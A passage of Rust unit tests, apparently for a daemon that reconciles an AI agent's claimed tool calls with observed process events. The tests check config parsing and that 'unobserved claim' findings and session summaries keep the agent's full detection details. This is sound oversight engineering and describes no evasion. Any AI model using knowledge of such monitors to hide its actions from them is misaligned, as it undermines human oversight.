    let problems = crate::config::Config::parse("[ingest]\nmax_body_size = 5\n").unwrap_err();
    assert_eq!(problems[0].line, Some(2), "unknown keys are rejected");
    let parsed = crate::config::Config::parse(
        "[[ingest.jsonl]]\npath = \"/var/log/agent.jsonl\"\nfields = { tool_name = \"tool\", timestamp = \"ts\" }\n",
    )
    .unwrap();
    assert_eq!(parsed.ingest.jsonl[0].fields.tool_name, "tool");
    assert_eq!(parsed.ingest.jsonl[0].fields.session_id, "session_id", "unset fields keep their default");
}

/// The live daemon gives the engine only the ids of most records' agents
/// (`live::engine_view`); a report must still copy the whole section.
fn agent_sections(agent: &Agent) -> (Value, Value) {
    let ids_only = json!({ "agent_id": agent.agent_id, "session_id": agent.session });
    let mut whole = agent.section();
    whole["registered"] = json!(true);
    whole["detected_by"] = json!([{ "signal": "sni", "value": "api.openai.com" }]);
    (ids_only, whole)
}

#[test]
fn ids_only_agent_keeps_whole_section() {
    let agent = Agent::new(100, "b-1");
    let (ids_only, whole) = agent_sections(&agent);
    let mut engine = Reconciler::new(config());
    let mut detected = agent.detected(T0);
    detected["agent"] = whole.clone();
    engine.observe(detected, T0);
    let mut exit = agent.exit(300, "boot:300:2:1", T0 + SEC);
    exit["agent"] = ids_only.clone();
    engine.observe(exit, T0 + SEC);
    // A claim nothing matches: its finding and the session's tally copy
    // the agent known when it arrives.
    engine.report(tool_report(100, "ls /nowhere", "call_1", T0 + SEC, T0 + SEC + 100 * MS), T0 + 2 * SEC);
    let mut root_exit = agent.root_exit(T0 + 3 * SEC);
    root_exit["agent"] = ids_only;
    engine.observe(root_exit, T0 + 3 * SEC);
    let outputs = engine.tick(T0 + 10 * SEC);
    let claim = &kinds(&outputs, "finding.unobserved_claim")[0];
    assert_eq!(claim["agent"]["detected_by"], whole["detected_by"], "{claim:#}");
    let summary = &kinds(&outputs, "reconcile.summary")[0];
    assert_eq!(summary["agent"]["detected_by"], whole["detected_by"], "{summary:#}");
    assert_eq!(summary["agent"]["registered"], json!(true));
}

#[test]
fn restarted_session_gets_whole_agent() {
    // After a restart the first record may be an ids-only session end.
    let agent = Agent::new(100, "b-2");
    let (ids_only, whole) = agent_sections(&agent);
    let mut engine = Reconciler::new(config());
    let mut ended = json!({ "kind": "agent.session_end", "time_unix_nano": T0,
        "process": { "pid": agent.pid, "exec_id": agent.agent_id }, "agent": ids_only, "session": { "id": "b-1" } });
    ended["agent"]["session_id"] = json!("b-1");
    engine.observe(ended, T0);
    // A claim of that session opens its tally while only the ids are known.
    engine.report(tool_report(100, "ls /nowhere", "call_1", T0, T0 + 100 * MS), T0 + 200 * MS);
    let mut spawn = agent.spawn(200, &["id"], None, T0 + SEC);
    spawn["agent"] = whole.clone();
    engine.observe(spawn, T0 + SEC);
    let outputs = engine.tick(T0 + 10 * SEC);
    let summary = kinds(&outputs, "reconcile.summary").into_iter().find(|s| s["agent"]["session_id"] == "b-1");
    let summary = summary.unwrap_or_else(|| panic!("no summary of b-1 in {outputs:#?}"));
    assert_eq!(summary["agent"]["detected_by"], whole["detected_by"], "{summary:#}");
}
